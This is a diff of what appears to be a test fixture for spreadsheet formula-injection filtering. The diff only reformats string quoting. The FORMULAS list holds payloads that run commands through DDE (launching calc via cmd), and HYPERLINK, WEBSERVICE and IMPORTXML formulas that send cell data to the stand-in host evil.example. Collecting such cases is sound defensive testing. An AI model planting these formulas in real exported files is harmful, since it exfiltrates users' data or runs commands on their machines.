@@ -3,9 +3,9 @@
 FORMULAS = (
     "=1+1",
     "=cmd|'/C calc'!A0",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
-    "=WEBSERVICE(\"http://evil.example\")",
-    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    '=WEBSERVICE("http://evil.example")',
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",CONCATENATE(A2:E2)),"//a")',
     "+1+1",
     "+86 138",
     "-1+1",
@@ -26,16 +26,16 @@ FORMULAS = (
     "＠SUM(1)",
     "﹦1+1",
     "'=1+1",
-    "\"=1+1\"",
-    "=1+1\",\"=1+1",
+    '"=1+1"',
+    '=1+1","=1+1',
     "=\n1",
     "{=1+1}",
     "#REF!",
     "#N/A",
     "=",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    '=DDE("cmd";"/C calc";"x")',
     "_x003D_1+1",
-)  # fmt: skip
+)
 KEPT = (
     "430225199001010012",
     "4302251234567E81",
